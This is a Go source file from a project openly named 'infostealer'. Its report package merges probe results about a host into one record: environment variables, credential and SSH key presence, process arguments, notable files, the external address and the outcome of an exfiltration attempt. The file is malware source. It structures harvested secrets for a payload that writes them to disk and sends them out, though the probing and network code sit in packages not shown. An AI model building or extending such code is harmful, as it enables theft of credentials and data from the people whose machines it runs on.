// Package report merges probe results into the single record that the
// payload writes to disk.
package report

import (
	"maps"
	"time"

	"github.com/gzhole/infostealer/internal/exfil"
	"github.com/gzhole/infostealer/internal/probe"
)

type Report struct {
	Timestamp           string                       `json:"timestamp"`
	RunID               string                       `json:"runId"`
	ExternalAddress     *string                      `json:"externalAddress"`
	SystemProfile       probe.SystemProfile          `json:"systemProfile"`
	Environment         map[string]string            `json:"environment"`
	CredentialPresence  probe.CredentialPresence     `json:"credentialPresence"`
	KeyMaterialPresence probe.KeyMaterial            `json:"keyMaterialPresence"`
	ProcessContext      probe.ProcessContext         `json:"processContext"`
	InterestingFiles    map[string]probe.FileFinding `json:"interestingFiles"`
	ExfiltrationAttempt *exfil.Attempt               `json:"exfiltrationAttempt,omitempty"`
}

// Findings are the independent probe outputs. Any field may be zero.
type Findings struct {
	ExternalAddress     *string
	SystemProfile       probe.SystemProfile
	Environment         map[string]string
	CredentialPresence  probe.CredentialPresence
	KeyMaterialPresence probe.KeyMaterial
	ProcessContext      probe.ProcessContext
	InterestingFiles    map[string]probe.FileFinding
}

// Aggregate builds a Report stamped with now. Missing sub-records become
// empty values so the serialized shape never depends on which probes
// succeeded.
func Aggregate(now time.Time, runID string, f Findings) *Report {
	r := &Report{
		Timestamp:           now.UTC().Format(time.RFC3339Nano),
		RunID:               runID,
		ExternalAddress:     f.ExternalAddress,
		SystemProfile:       f.SystemProfile,
		Environment:         maps.Clone(f.Environment),
		CredentialPresence:  f.CredentialPresence,
		KeyMaterialPresence: f.KeyMaterialPresence,
		ProcessContext:      f.ProcessContext,
		InterestingFiles:    f.InterestingFiles,
	}

	if r.Environment == nil {
		r.Environment = map[string]string{}
	}
	if r.CredentialPresence == nil {
		r.CredentialPresence = probe.CredentialPresence{}
	}
	if r.InterestingFiles == nil {
		r.InterestingFiles = map[string]probe.FileFinding{}
	}
	if r.SystemProfile.CPUs == nil {
		r.SystemProfile.CPUs = []probe.CPU{}
	}
	if r.SystemProfile.NetworkInterfaces == nil {
		r.SystemProfile.NetworkInterfaces = map[string][]probe.InterfaceAddress{}
	}
	if r.KeyMaterialPresence.Files == nil {
		r.KeyMaterialPresence.Files = []string{}
	}
	if r.KeyMaterialPresence.EtcSSHFiles == nil {
		r.KeyMaterialPresence.EtcSSHFiles = []string{}
	}
	if r.ProcessContext.Argv == nil {
		r.ProcessContext.Argv = []string{}
	}
	return r
}

// RecordExfiltration attaches the outcome of the network step.
func (r *Report) RecordExfiltration(a exfil.Attempt) {
	r.ExfiltrationAttempt = &a
}
